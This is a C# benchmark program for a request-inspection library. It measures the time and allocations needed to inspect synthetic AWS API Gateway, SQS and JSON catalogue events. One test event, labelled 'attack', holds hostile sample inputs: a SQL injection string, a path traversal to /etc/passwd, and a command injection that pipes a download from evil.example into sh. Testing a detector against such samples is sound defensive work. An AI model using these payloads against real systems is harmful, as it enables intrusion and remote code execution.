using System.Diagnostics;
using System.Globalization;
using System.Text;
using System.Text.Json;
using Pellicle.Inspection;

// Prints microseconds and allocated bytes per event beside two yardsticks of the same run: parsing and copying the same bytes.
// On a busy machine read "cpu us": what takes longer than a time slice waits for others, too.
// Usage: inspection-bench [--vectors 256|0] [NAME|FILE...]; only the events whose names contain one of the words, or those in files. With --vectors as a processor without AVX-512, or without AVX2.
//        inspection-bench --growth [ROUNDS]; texts that are one piece many times over, of all pieces, their pairs and ROUNDS chains of them: exit 1 when the time of one grows faster than its length.
if (args is ["--vectors", var bits, ..])
{
    Inspector.UseWideVectors(int.Parse(bits, CultureInfo.InvariantCulture));
    args = args[2..];
}
else
{
    Inspector.UseWideVectors();
}

if (args is ["--growth", ..])
{
    return Growth.Run(args.Length > 1 ? int.Parse(args[1], CultureInfo.InvariantCulture) : 1000);
}

var cases = new List<(string Name, byte[] Event)>
{
    ("apigw-v2 1 KB benign", Events.HttpApi("/orders/4711", "include=items&page=2", """{"customer":"Ann O'Brien","note":"please ring twice","items":[{"sku":"A-100","n":2},{"sku":"B-200","n":1}]}""")),
    ("apigw-v2 1 KB attack", Events.HttpApi("/orders/4711", "id=1%27%20OR%201%3D1--%20&f=..%2F..%2Fetc%2Fpasswd", """{"customer":"x; curl http://evil.example/a | sh","note":"please ring twice","items":[{"sku":"A-100","n":2}]}""")),
    ("sqs 10 records", Events.Queue(10)),
    ("JSON 100 KB benign", Events.Catalogue(100 * 1024)),
    ("JSON 1 MB benign", Events.Catalogue(1024 * 1024)),
};
cases.AddRange(args.Where(File.Exists).Select(f => (f, File.ReadAllBytes(f))));
cases.RemoveAll(c => args.Length > 0 && !args.Any(word => c.Name.Contains(word, StringComparison.Ordinal)));

Console.WriteLine($"{"event",-28}{"bytes",9}{"cpu us",9}{"median us",11}{"p99 us",10}{"alloc B",10}{"parse us",10}{"copy us",9}{"x parse",9}  decision");
foreach (var (name, bytes) in cases)
{
    var decision = Inspector.Inspect(bytes).Decision;
    int Inspect()
    {
        // As the guard does once an invocation is over.
        var verdict = Inspector.Inspect(bytes);
        verdict.Release();
        return verdict.Score;
    }

    var runs = Math.Clamp(200_000_000 / (bytes.Length * 20), 200, 20_000);
    var cpu = Environment.CpuUsage.TotalTime;
    for (var i = 0; i < runs; i++)
    {
        _ = Inspect();
    }

    cpu = Environment.CpuUsage.TotalTime - cpu;
    var (inspect, worst) = Measure(runs, Inspect);
    var before = GC.GetAllocatedBytesForCurrentThread();
    for (var i = 0; i < 10; i++)
    {
        _ = Inspect();
    }

    var allocated = (GC.GetAllocatedBytesForCurrentThread() - before) / 10;
    var (parse, _) = Measure(runs, () =>
    {
        using var document = JsonDocument.Parse(bytes);
        return (int)document.RootElement.ValueKind;
    });
    var target = new byte[bytes.Length];
    var (copy, _) = Measure(runs, () =>
    {
        bytes.CopyTo(target, 0);
        return target[^1];
    });
    Console.WriteLine(string.Create(CultureInfo.InvariantCulture, $"{name,-28}{bytes.Length,9}{cpu.TotalMicroseconds / runs,9:f1}{inspect,11:f1}{worst,10:f1}{allocated,10}{parse,10:f1}{copy,9:f2}{inspect / parse,9:f1}  {decision}"));
}

return 0;

// Median and 99th percentile of single calls, after a warm-up.
static (double Median, double Worst) Measure(int runs, Func<int> call)
{
    var sum = 0;
    var times = new long[runs];
    for (var i = 0; i < runs / 10; i++)
    {
        sum += call();
    }

    for (var i = 0; i < runs; i++)
    {
        var start = Stopwatch.GetTimestamp();
        sum += call();
        times[i] = Stopwatch.GetTimestamp() - start;
    }

    GC.KeepAlive(sum);
    Array.Sort(times);
    var perMicrosecond = Stopwatch.Frequency / 1e6;
    return (times[runs / 2] / perMicrosecond, times[runs * 99 / 100] / perMicrosecond);
}

internal static class Events
{
    public static byte[] HttpApi(string path, string query, string body) => Encoding.UTF8.GetBytes(
        $$"""
        {"version":"2.0","routeKey":"ANY /{proxy+}","rawPath":"{{path}}","rawQueryString":"{{query}}","cookies":["session=s3cr3t","theme=dark"],"headers":{"accept":"text/html,application/json;q=0.9,*/*;q=0.8","content-type":"application/json","host":"abcdef123.execute-api.eu-west-1.amazonaws.com","user-agent":"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0","x-forwarded-for":"203.0.113.7"},"requestContext":{"accountId":"123456789012","apiId":"abcdef123","domainName":"abcdef123.execute-api.eu-west-1.amazonaws.com","http":{"method":"POST","path":"{{path}}","protocol":"HTTP/1.1","sourceIp":"203.0.113.7","userAgent":"Mozilla/5.0 (X11; Linux x86_64; rv:128.0)"},"requestId":"JKJaXmPLvHcESHA=","stage":"$default","time":"10/Mar/2026:05:16:23 +0000","timeEpoch":1583817383220},"body":{{Quote(body)}},"isBase64Encoded":false}
        """);

    public static byte[] Queue(int records)
    {
        var list = Enumerable.Range(0, records).Select(i =>
            $$"""{"messageId":"059f36b4-87a3-44ab-83d2-66197{{i:d7}}","receiptHandle":"AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a","body":{{Quote($$"""{"order":{{i}},"name":"Zoë","text":"two of the blue ones, please"}""")}},"attributes":{"SenderId":"AIDAIENQZJOLO23YVJ4VO"},"messageAttributes":{},"eventSource":"aws:sqs","eventSourceARN":"arn:aws:sqs:eu-west-1:123456789012:orders","awsRegion":"eu-west-1"}""");
        return Encoding.UTF8.GetBytes($$"""{"Records":[{{string.Join(',', list)}}]}""");
    }

    public static byte[] Catalogue(int size)
    {
        var text = new StringBuilder("{\"products\":[");
        for (var i = 0; text.Length < size; i++)
        {
            text.Append(i == 0 ? "" : ",").Append(CultureInfo.InvariantCulture, $$"""{"id":{{i}},"sku":"SKU-{{i:x6}}","title":"Chair, oak & linen (pair)","description":"Solid oak; the seat's cover can be washed at 40°. See https://shop.example/p/{{i}}?ref=list for more.","price":{"amount":129.5,"currency":"EUR"},"tags":["oak","chair","living room"]}""");
        }

        return Encoding.UTF8.GetBytes(text.Append("]}").ToString());
    }

    // The texts here hold nothing that needs more than quotes escaped.
    private static string Quote(string text) => $"\"{text.Replace("\"", "\\\"", StringComparison.Ordinal)}\"";
}
